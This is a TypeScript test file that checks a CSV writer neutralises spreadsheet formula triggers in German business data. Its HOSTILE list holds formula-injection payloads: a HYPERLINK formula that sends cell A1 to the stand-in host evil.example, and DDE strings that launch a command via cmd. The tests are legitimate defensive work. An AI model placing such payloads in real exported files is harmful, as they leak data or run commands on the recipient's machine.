import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, csvFile, csvRecord, neutraliseFormula, type CsvDelimiter } from './csv.ts';

const TRIGGERS = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/** Texts a customer name, an SMTP reply or a note may carry. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1;"klick")',
  '+49 30 1234567',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  'Müller, =1+1',
  'Müller;=1+1',
  'Müller\t@SUM(A1)',
  'Zeile 1\n-1+1',
  'Meier, Jr.; "Ehrenwert"',
  '＝1+1',
];

/** Cells as a reader that does not honour quotes sees them (a naive split on `separator`). */
const naiveCells = (file: string, separator: string): string[] =>
  file.replace(CSV_BOM, '').split(/\r\n|\n|\r/).flatMap((line) => line.split(separator)).map((cell) => cell.replace(/^"+/, '').trimStart());

describe('the CSV writer', () => {
  it('neutralises formula triggers at the start of a cell and after any separator', () => {
    expect(neutraliseFormula('=1+1')).toBe("'=1+1");
    expect(neutraliseFormula('Müller, =1+1')).toBe("Müller, '=1+1");
    expect(neutraliseFormula('\tabc')).toBe("'\tabc");
    expect(neutraliseFormula('Hörgerät')).toBe('Hörgerät');
    expect(neutraliseFormula('2026-11-28T10:00:00.000Z')).toBe('2026-11-28T10:00:00.000Z');
  });

  it('keeps numbers numeric: numbers as they are, decimal strings without a prefix', () => {
    expect(csvRecord([-3, 12.5, '-12,50', '1.234,56', '-7', 0])).toBe('-3;12.5;-12,50;1.234,56;-7;0\r\n');
    expect(csvCell('-12,50', ',')).toBe('"-12,50"');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell(null)).toBe('');
  });

  for (const delimiter of [';', ',', '\t'] satisfies CsvDelimiter[]) {
    it(`round-trips through a CSV reader with ${JSON.stringify(delimiter)} and leaves no cell a formula`, () => {
      const rows = HOSTILE.map((text, i) => [i, text, -i]);
      const file = csvFile(['Nr', 'Text', 'Betrag'], rows, delimiter);
      expect(file.startsWith(CSV_BOM)).toBe(true);
      const records: string[][] = parse(file, { delimiter, bom: true, relax_column_count: true });
      expect(records).toHaveLength(1 + HOSTILE.length);
      records.slice(1).forEach((record, i) => {
        expect(record).toEqual([String(i), neutraliseFormula(HOSTILE[i] ?? ''), String(-i)]);
        expect(record[1]).not.toMatch(TRIGGERS);
      });
    });
  }

  it('is safe whichever separator a spreadsheet splits on, with or without honouring quotes', () => {
    const file = csvFile(['Text'], HOSTILE.map((text) => [text]));
    for (const delimiter of [';', ',', '\t'] satisfies CsvDelimiter[]) {
      // readers that honour quotes
      const records: string[][] = parse(file, { delimiter, bom: true, relax_column_count: true, relax_quotes: true });
      for (const cell of records.flat()) expect(cell.trimStart(), `${JSON.stringify(delimiter)}: ${cell}`).not.toMatch(TRIGGERS);
      // readers that split naively
      for (const cell of naiveCells(file, delimiter)) expect(cell, `${JSON.stringify(delimiter)}: ${cell}`).not.toMatch(/^[=+@\uff1d\uff0b\uff20]|^-(?!\d+(?:[.,]\d+)*$)/);
    }
  });
});
